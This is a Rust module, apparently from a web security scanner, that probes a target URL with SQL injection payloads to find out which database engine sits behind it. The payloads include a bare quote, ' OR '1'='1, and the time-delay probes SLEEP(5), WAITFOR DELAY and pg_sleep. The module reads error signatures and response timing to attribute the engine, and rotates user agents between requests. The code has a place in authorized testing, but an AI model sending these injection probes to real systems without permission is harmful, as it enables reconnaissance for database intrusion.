// Backend engine fingerprinting: diagnostic payloads matched against the
// error-signature table, with induced-delay attribution as the fallback.
// Best effort; false negatives are expected and fine.

pub mod signatures;

pub use signatures::{match_engine, matches_any, DbEngine};

use std::time::{Duration, Instant};

use rand::seq::SliceRandom;
use reqwest::header::{COOKIE, USER_AGENT};
use serde::{Deserialize, Serialize};

use crate::http_client::ClientPool;
use crate::target::Target;

/// How a fingerprint was obtained.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum DetectionMode {
    Signature,
    Timing,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DbFingerprint {
    pub engine: DbEngine,
    pub mode: DetectionMode,
    pub confidence: f32,
}

/// Delay a time-based payload must induce before we attribute it.
/// Full threshold, not a fraction of it, to keep false positives down.
const DELAY_THRESHOLD: Duration = Duration::from_secs(5);

/// Ordered diagnostic payloads. Delay variants carry the engine their
/// syntax belongs to.
fn diagnostic_payloads() -> [(&'static str, Option<DbEngine>); 6] {
    [
        ("'", None),
        ("1; --", None),
        ("' OR '1'='1", None),
        ("' AND SLEEP(5) --", Some(DbEngine::MySql)),
        ("WAITFOR DELAY '0:0:5' --", Some(DbEngine::Mssql)),
        ("pg_sleep(5); --", Some(DbEngine::Postgres)),
    ]
}

/// Probe the target once per diagnostic payload and infer the backend
/// engine. Returns None when nothing fires. Network errors per payload are
/// logged and skipped.
pub async fn detect_engine(
    clients: &ClientPool,
    target: &Target,
    timeout: Duration,
) -> Option<DbFingerprint> {
    for (payload, delay_engine) in diagnostic_payloads() {
        let client = clients.pick();
        let ua = target
            .user_agents
            .choose(&mut rand::thread_rng())
            .cloned()
            .unwrap_or_default();

        let mut req = client
            .get(&target.url)
            .query(&[("test", payload)])
            .header(USER_AGENT, ua)
            .timeout(timeout);
        if let Some(cookie) = target.cookie_header() {
            req = req.header(COOKIE, cookie);
        }

        let start = Instant::now();
        let resp = match req.send().await {
            Ok(r) => r,
            Err(e) => {
                tracing::warn!(payload, error = %e, "fingerprint probe failed, skipping");
                continue;
            }
        };
        let body = match resp.text().await {
            Ok(b) => b,
            Err(e) => {
                tracing::warn!(payload, error = %e, "fingerprint body read failed, skipping");
                continue;
            }
        };
        let elapsed = start.elapsed();

        if let Some(engine) = match_engine(&body) {
            tracing::info!(engine = engine.name(), payload, "engine detected by error signature");
            return Some(DbFingerprint {
                engine,
                mode: DetectionMode::Signature,
                confidence: 0.9,
            });
        }

        if let Some(engine) = delay_engine {
            if elapsed > DELAY_THRESHOLD {
                tracing::info!(
                    engine = engine.name(),
                    elapsed_secs = elapsed.as_secs_f64(),
                    "engine detected by induced delay"
                );
                return Some(DbFingerprint {
                    engine,
                    mode: DetectionMode::Timing,
                    confidence: 0.6,
                });
            }
        }
    }
    tracing::info!("backend engine not detected");
    None
}
